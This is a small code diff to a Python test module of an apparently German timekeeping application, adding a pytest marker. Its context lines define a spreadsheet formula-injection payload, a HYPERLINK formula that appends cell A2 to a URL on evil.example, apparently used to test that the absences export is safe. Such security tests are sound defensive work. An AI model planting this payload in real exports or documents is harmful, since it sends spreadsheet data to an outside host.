@@ -15,6 +15,8 @@ from timekeeping.leave.services import entitlement_grant, leave_request_create
 from timekeeping.travel.models import Training
 from timekeeping.worktime.services import time_entry_create
 
+pytestmark = pytest.mark.clients
+
 BERLIN = ZoneInfo("Europe/Berlin")
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Klick")'
 ABSENCES = "/abwesenheiten/verwaltung/export/"
